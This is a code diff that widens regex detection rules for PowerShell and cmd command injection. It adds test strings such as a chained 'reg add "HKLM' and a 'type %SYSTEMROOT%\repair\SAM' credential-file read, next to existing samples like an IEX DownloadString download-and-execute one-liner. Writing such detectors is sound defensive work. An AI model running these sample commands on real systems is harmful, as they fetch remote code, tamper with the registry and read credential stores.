@@ -236,7 +236,7 @@ export const rceRules: readonly Rule[] = [
   ),
   pattern(
     'rce/powershell',
-    /\b(?:invoke-(?:(?:expression|command)\s{0,4}[("'$&{-]|shellcode|mimikatz)|new-object\s{1,4}(?:system\.|net\.)|downloadstring\s{0,4}\(|start-bitstransfer|(?:powershell|pwsh)(?:\.exe)?\s(?:[^\n]{0,80}\s)?-(?:e|en|enc|enco\w{0,10}|ec|w|win\w{0,8}|nop|nopr\w{0,6}|noni\w{0,12}|ep|ex|exec\w{0,12})\b)|\|\s{0,4}invoke-expression\b|frombase64string\s{0,4}\(|\[system\.net\.|[&|]\s{0,4}echo\s{1,4}%\w{2,24}%|[&|;]\s{0,4}(?:powershell|pwsh|cmd)(?:\.exe)?\s{1,4}[-/]\w/,
+    /\b(?:invoke-(?:(?:expression|command)\s{0,4}[("'$&{-]|shellcode|mimikatz)|new-object\s{1,4}(?:system\.|net\.)|downloadstring\s{0,4}\(|start-bitstransfer|(?:powershell|pwsh)(?:\.exe)?\s(?:[^\n]{0,80}\s)?-(?:e|en|enc|enco\w{0,10}|ec|w|win\w{0,8}|nop|nopr\w{0,6}|noni\w{0,12}|ep|ex|exec\w{0,12})\b)|\|\s{0,4}invoke-expression\b|frombase64string\s{0,4}\(|\[system\.net\.|[&|]\s{0,4}echo\s{1,4}%\w{2,24}%|[&|;]\s{0,4}(?:(?:powershell|pwsh|cmd)(?:\.exe)?\s{1,4}[-/]\w|reg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}["']?hk|(?:type|copy|dir)\s{1,4}["']?%\w{2,24}%\\)/,
     {
       score: 5,
       quotable: true,
@@ -247,6 +247,8 @@ export const rceRules: readonly Rule[] = [
         'powershell.exe -nop -w hidden -c x',
         "IEX(New-Object Net.WebClient).DownloadString('http://x')",
         'x|powershell -c id',
+        '| reg add "HKLM',
+        '& type %SYSTEMROOT%\\repair\\SAM',
       ],
       benign: ['start processing', 'powershell is nice', 'powershell -File build.ps1'],
     },
@@ -254,7 +256,7 @@ export const rceRules: readonly Rule[] = [
   // What people quote of their own machines too, and breaks out of nothing.
   pattern(
     'rce/powershell-command',
-    /\b(?:invoke-(?:webrequest|restmethod|item)|start-process|set-executionpolicy|powershell(?:\.exe)?\s{1,4}-\w|get-(?:wmiobject|ciminstance)\s{1,4}[-\w]|get-(?:childitem|process|content)\s{1,4}[-\w][^\n]{0,80}\|)|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|%(?:comspec|systemroot|windir|username)%|\breg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}hk/,
+    /\b(?:invoke-(?:webrequest|restmethod|item)|start-process|set-executionpolicy|powershell(?:\.exe)?\s{1,4}-\w|get-(?:wmiobject|ciminstance)\s{1,4}[-\w]|get-(?:childitem|process|content)\s{1,4}[-\w][^\n]{0,80}\|)|\bcmd(?:\.exe)?\s{1,4}\/[ck]\b|%(?:comspec|systemroot|windir|username)%|\breg(?:\.exe)?\s{1,4}(?:query|add|save|export|delete)\s{1,4}["']?hk/,
     {
       score: 5,
       bare: true,
@@ -262,6 +264,7 @@ export const rceRules: readonly Rule[] = [
       words: WORD.powershell,
       attacks: [
         'reg query HKLM',
+        'reg add "HKLM',
         'Invoke-WebRequest http://x/f.ps1',
         'cmd.exe /c dir',
         'powershell -Command whoami',
